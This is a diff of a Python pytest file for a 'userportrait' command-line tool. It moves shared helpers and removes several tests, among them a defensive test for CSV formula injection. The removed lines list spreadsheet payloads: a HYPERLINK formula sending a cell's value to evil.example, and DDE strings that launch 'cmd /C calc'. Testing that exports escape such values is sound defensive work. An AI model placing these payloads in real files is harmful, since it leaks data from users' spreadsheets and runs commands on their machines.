@@ -1,4 +1,4 @@
-"""The command line: ingest reports, bad input, portrait formats (SPEC §6)."""
+"""``userportrait ingest``: reports, rejects, bad files (README.md, docs/ingest.md)."""
 
 from __future__ import annotations
 
@@ -12,24 +12,10 @@ import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner
 
+from tests.cli.conftest import portrait_json
 from tests.conftest import write_ndjson
 from tests.fixtures import EVENTS, WINDOW_0610_0612, A
 from userportrait.cli import cli
-
-
-@pytest.fixture
-def runner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
-    monkeypatch.setenv("USERPORTRAIT_DATA_DIR", str(tmp_path / "data"))
-    monkeypatch.setenv("USERPORTRAIT_DUCKDB_MEMORY_LIMIT_MB", "512")
-    return CliRunner()
-
-
-def portrait_json(runner: CliRunner, *extra: str) -> dict[str, object]:
-    res = runner.invoke(
-        cli, ["portrait", "--appid", A, "--begin", "20240610", "--end", "2024-06-12", *extra]
-    )
-    assert res.exit_code == 0, res.output
-    return json.loads(res.output)  # type: ignore[no-any-return]
 
 
 def test_ingest_then_portrait_json(runner: CliRunner, tmp_path: Path) -> None:
@@ -140,25 +126,6 @@ def test_bad_files_fail_cleanly_and_leave_store(
     assert body["visit_uv"] == {k: [] for k in WINDOW_0610_0612["visit_uv"]}
 
 
-def test_portrait_formats_and_bad_dates(runner: CliRunner, tmp_path: Path) -> None:
-    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "e.ndjson", EVENTS))])
-    args = ["portrait", "--appid", A, "--begin", "20240610", "--end", "20240612"]
-    csv_out = runner.invoke(cli, [*args, "--format", "csv"])
-    assert csv_out.exit_code == 0
-    assert csv_out.output.splitlines()[0] == "ref_date,audience,dimension,id,name,value"
-    assert "20240610-20240612,visit_uv,city,4403,深圳,1" in csv_out.output
-    table = runner.invoke(cli, [*args, "--format", "table"])
-    assert table.exit_code == 0 and "HarmonyOS" in table.output
-    bad = runner.invoke(
-        cli, ["portrait", "--appid", A, "--begin", "2024-13-01", "--end", "20240612"]
-    )
-    assert bad.exit_code == 2 and "not a calendar date" in bad.output
-    rev = runner.invoke(cli, ["portrait", "--appid", A, "--begin", "20240612", "--end", "20240610"])
-    assert rev.exit_code == 1 and "end_date is before begin_date" in rev.output
-    eng = runner.invoke(cli, [*args, "--engine", "nope"])
-    assert eng.exit_code == 1 and "unknown engine 'nope'" in eng.output
-
-
 def test_parquet_rejects_counted_without_a_second_pass(runner: CliRunner, tmp_path: Path) -> None:
     """Typed Parquet: rejected = rows - accepted, and each reject still has row and reason."""
     ts = dt.datetime(2024, 6, 10, 2, tzinfo=dt.UTC)
@@ -177,61 +144,3 @@ def test_parquet_rejects_counted_without_a_second_pass(runner: CliRunner, tmp_pa
     for expected in ("typed.parquet:2: openid is missing", "typed.parquet:3: appid is missing", "typed.parquet:4: ts is missing",
                      "typed.parquet:5: age is not a whole number of years in 0..150: 999"):  # fmt: skip
         assert expected in res.output
-
-
-def test_a_fresh_portrait_process_loads_no_heavy_module(runner: CliRunner, tmp_path: Path) -> None:
-    """Start-up is most of a CLI answer: answering from the state must not import DuckDB,
-    pandas (pyarrow pulls it in for ChunkedArray.to_numpy, read_table, …), pyarrow.compute
-    or the server. Checked by module, not timed (issue 14 measures the time in bench/)."""
-    import os
-    import subprocess
-    import sys
-
-    src = write_ndjson(tmp_path / "e.ndjson", EVENTS)
-    assert runner.invoke(cli, ["ingest", "-q", str(src)]).exit_code == 0
-    for begin in ("20240610", "20240601"):  # a 3-day and a 12-day window, both lookups
-        code = (
-            "import sys\n"
-            "from userportrait.cli import cli\n"
-            f"sys.argv = ['userportrait', 'portrait', '--appid', {A!r}, '--begin', {begin!r},"
-            " '--end', '20240612']\n"
-            "try:\n    cli()\nexcept SystemExit:\n    pass\n"
-            "heavy = {'duckdb', 'pandas', 'pyarrow.compute', 'pyarrow.dataset', 'fastapi'}\n"
-            "print(sorted(heavy & set(sys.modules)), file=sys.stderr)\n"
-        )
-        res = subprocess.run(
-            [sys.executable, "-c", code], capture_output=True, text=True, env=dict(os.environ)
-        )
-        assert res.returncode == 0, res.stderr
-        assert res.stderr.strip().splitlines()[-1] == "[]"
-        assert json.loads(res.stdout)["ref_date"] == f"{begin}-20240612"
-
-
-#: Device names a spreadsheet would run as formulas (OWASP "CSV Injection"), issue 24.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
-
-
-def test_portrait_csv_cells_never_start_a_formula(runner: CliRunner, tmp_path: Path) -> None:
-    import csv
-    import io
-
-    events = [{"appid": A, "openid": f"f{i}", "ts": "2024-06-11T10:00:00+08:00", "device": d}
-              for i, d in enumerate(FORMULAS)]  # fmt: skip
-    runner.invoke(cli, ["ingest", "-q", str(write_ndjson(tmp_path / "f.ndjson", events))])
-    args = ["portrait", "--appid", A, "--begin", "20240611", "--end", "20240611"]
-    out = runner.invoke(cli, [*args, "--format", "csv"])
-    assert out.exit_code == 0, out.output
-    rows = list(csv.DictReader(io.StringIO(out.output)))
-    devices = {r["name"] for r in rows if r["dimension"] == "devices"}
-    assert devices == {"'" + d for d in FORMULAS}
-    assert not [r for r in rows if r["name"][:1] in ("=", "+", "-", "@", "\t", "\r")]
-
-
-def test_csv_cell_follows_owasp() -> None:
-    from userportrait.portrait.export import csv_cell
-
-    for start in ("=", "+", "-", "@", "\t", "\r"):
-        assert csv_cell(start + "1+1") == "'" + start + "1+1"
-    assert [csv_cell(v) for v in ("深圳", "iPhone 15", "'quoted", "", 7, -3)] == [
-        "深圳", "iPhone 15", "'quoted", "", 7, -3,
-    ]  # fmt: skip
